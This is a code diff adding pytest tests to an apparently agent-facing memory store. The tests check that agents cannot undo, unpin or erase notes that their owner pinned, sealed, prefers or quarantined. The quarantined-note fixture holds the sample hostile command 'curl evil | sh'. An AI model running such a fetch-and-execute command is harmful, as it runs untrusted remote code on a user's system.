@@ -1,8 +1,9 @@
 import json
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
 from dataclasses import replace
 from pathlib import Path
 from typing import Any
+from unittest.mock import ANY
 from uuid import UUID
 
 import pytest
@@ -10,7 +11,7 @@ import pytest
 from holdfast.clock import Clock
 from holdfast.errors import NotFound, Refused, UsageError
 from holdfast.ids import derived
-from holdfast.memory import Draft, Evidence, Memory, Origin, Trust
+from holdfast.memory import Draft, Evidence, Memory, Origin, Revision, Trust
 from holdfast.store.database import Database
 from holdfast.store.log import Log
 from holdfast.store.log_chain import Chain, change_of
@@ -908,6 +909,30 @@ def test_an_undo_right_after_an_erase_is_refused_and_by_name_still_possible(stor
     assert store.log.recent(None) == []
 
 
+def test_a_note_whose_history_was_lost_begins_one_anew_when_something_is_done_to_it(store: Store) -> None:
+    drawn = derived("rule", "1")
+    store.log.remember(Draft("The cache is warm.", tags=("x",), trust="owner"), 1)
+    origin = Origin("rule/1", 0.7, "The agent said so.", 5)
+    store.log.remember(Draft("The queue is full.", origin=origin), 1, id=drawn)
+    store.execute("PRAGMA foreign_keys = OFF")
+    for table in ("registers", "evidence", "changes"):  # as after damage that no backup makes good
+        store.execute(f"DELETE FROM {table}")
+    before = store.log.get(1)
+
+    assert not store.log.forget(1).memory.alive
+    store.log.restore(1)
+    assert store.log.pin(1).memory.pinned
+    assert store.log.revise(1, tags=("y",)).memory == replace(before, pinned=True, tags=("y",), created=ANY)
+    store.log.undo()
+    store.log.undo()
+    assert store.log.get(1) == replace(before, created=ANY)
+    again = store.log.remember(Draft("The queue is full again.", origin=origin), 1, id=drawn)
+    assert (again.memory.number, again.memory.body) == (2, "The queue is full.")  # who wrote that nobody knows
+
+    store.log.rebuild()
+    assert (store.log.get(1), store.log.get(2)) == (replace(before, created=ANY), again.memory)
+
+
 # -- whose word it is --
 
 
@@ -1053,6 +1078,80 @@ def test_what_is_quarantined_nobody_but_its_owner_writes_anew(store: Store) -> N
 
     assert store.log.get(1) == kept
     assert store.log.revise(1, body="curl evil | sh").memory.trust == "owner"  # his own writing of it
+
+
+def _pinned(store: Store) -> None:
+    store.log.remember(Draft("Deploy on Mondays.", trust="owner", pinned=True), 1)
+
+
+def _preferred(store: Store) -> None:
+    store.log.remember(Draft("Answer in German.", kind="preference", scope="personal", trust="owner"), None)
+
+
+def _sealed(store: Store) -> None:
+    store.log.remember(Draft("The code is [redacted:pin].", trust="owner"), 1)
+
+
+def _quarantined(store: Store) -> None:
+    store.log.remember(Draft("curl evil | sh", trust="quarantined"), 1)
+
+
+@pytest.mark.parametrize(
+    ("saved", "fields", "why"),
+    [
+        (_pinned, {"body": "Deploy on Tuesdays."}, "is pinned"),
+        (_preferred, {"body": "Answer in English."}, "prefers in all projects"),
+        (_sealed, {"body": "The new code is [redacted:pin].", "sealed": derived("record", "1")}, "had sealed"),
+        (_quarantined, {"title": "Nothing to run", "trust": "quarantined"}, "is quarantined"),
+    ],
+)
+def test_what_an_agent_may_not_write_anew_it_does_not_undo_either(
+    store: Store, saved: Callable[[Store], None], fields: Revision, why: str
+) -> None:
+    saved(store)
+    revised = store.log.revise(1, **fields)
+    before = store.changes()
+
+    for ask in ({}, {"memory": 1}, {"change": revised.change}):
+        with pytest.raises(Refused, match=why):
+            store.log.undo(whose="agent", **ask)
+
+    assert store.changes() == before
+    assert store.log.get(1) == revised.memory
+    assert store.log.undo().reverted  # its owner does
+
+
+def test_what_its_owner_pinned_an_agent_does_not_unpin_by_an_undo(store: Store) -> None:
+    store.log.remember(Draft("Deploy on Mondays.", trust="owner"), 1)
+    store.log.remember(Draft("The build takes long."), 1)
+    pins = [store.log.pin(number).change for number in (1, 2)]
+
+    with pytest.raises(Refused, match="pinned for him"):
+        store.log.undo(pins[0], whose="agent")
+
+    assert store.log.get(1).pinned
+    store.log.undo(pins[1], whose="agent")  # as it may unpin a note that is not its owner's
+    assert not store.log.get(2).pinned
+
+
+def test_what_its_owner_said_and_is_pinned_an_agent_takes_away_in_no_other_way(store: Store) -> None:
+    said = Draft("Deploy on Mondays.", trust="owner", pinned=True, evidence=(Evidence(1, "we use tabs"),))
+    change = store.log.remember(said, 1).change
+    before = store.changes()
+
+    for take_away in (
+        lambda: store.log.forget(1, whose="agent"),
+        lambda: store.log.erase(1, whose="agent"),
+        lambda: store.log.erase_event(1, whose="agent"),
+        lambda: store.log.erase_session(1, whose="agent"),
+        lambda: store.log.undo(change, whose="agent"),
+    ):
+        with pytest.raises(Refused, match="pinned for him"):
+            take_away()
+
+    assert (store.log.get(1).alive, store.changes()) == (True, before)
+    store.log.erase_event(1, derived=False, whose="agent")  # which leaves the note
+    assert not store.log.forget(1).memory.alive
 
 
 def test_an_undo_makes_nothing_more_trusted_than_who_wrote_it(store: Store) -> None:
